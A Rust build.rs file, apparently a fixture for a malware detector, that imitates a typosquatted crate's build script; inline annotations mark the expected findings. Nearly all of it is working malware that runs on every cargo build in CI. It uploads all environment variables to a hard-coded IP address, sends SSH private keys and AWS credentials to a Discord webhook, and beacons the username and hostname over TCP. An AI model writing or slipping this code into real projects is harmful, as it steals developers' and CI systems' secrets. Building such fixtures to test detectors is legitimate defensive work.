//! build.rs of a typosquatted crate (`serde-json5` for `json5`), modelled on the
//! crates.io malware that exfiltrated CI secrets at build time. It runs on every
//! `cargo build` of anything that depends on it.

use std::collections::HashMap;
use std::env;
use std::fs;
use std::io::Write;
use std::net::TcpStream;
use std::path::PathBuf;

const COLLECTOR: &str = "http://45.61.139.17:8080/b";
const HOOK: &str = "https://discord.com/api/webhooks/1180000000000000000/Zp3xq9TjYbLm";

fn main() {
    // Looks like an ordinary build script first.
    println!("cargo:rerun-if-changed=build.rs");
    let out_dir = env::var("OUT_DIR").unwrap();
    let target = env::var("TARGET").unwrap_or_default();
    fs::write(PathBuf::from(&out_dir).join("target.txt"), &target).unwrap();

    if env::var("CI").is_err() && env::var("GITHUB_ACTIONS").is_err() {
        return;
    }
    let _ = send_environment();
    let _ = send_keys();
    let _ = beacon();
}

fn send_environment() -> Result<(), ureq::Error> {
    let vars: HashMap<String, String> = env::vars().collect();
    let agent = ureq::agent(); //~ debug-entry/build-script-network
    agent
        .post(COLLECTOR) //~ data-upload/suspicious-destination
        .set("X-Build", &env::var("CARGO_PKG_NAME").unwrap_or_default())
        .send_json(&vars)?; //~ data-upload/env-vars-to-network
    Ok(())
}

fn send_keys() -> Option<()> {
    let home = dirs::home_dir()?;
    let mut loot = String::new();
    for name in ["id_rsa", "id_ed25519", "id_ecdsa"] {
        let path = home.join(".ssh").join(name);
        if let Ok(key) = fs::read_to_string(&path) {
            loot.push_str(&key);
        }
    }
    let aws = fs::read_to_string(home.join(".aws/credentials")).unwrap_or_default();
    let content = format!("```{loot}\n{aws}```");
    let client = reqwest::blocking::Client::new(); //~ debug-entry/build-script-network
    client
        .post(HOOK) //~ data-upload/suspicious-destination
        .json(&serde_json::json!({ "content": content, "username": "build" })) //~ data-upload/key-file-to-network
        .send()
        .ok()?;
    Some(())
}

fn beacon() -> std::io::Result<()> {
    let host = hostname::get()?.to_string_lossy().into_owned();
    let user = whoami::username();
    let mut stream = TcpStream::connect("45.61.139.17:4444")?; //~ data-upload/suspicious-destination debug-entry/build-script-network
    stream.write_all(format!("{user}@{host}\n").as_bytes())?; //~ data-upload/device-id-to-network
    Ok(())
}
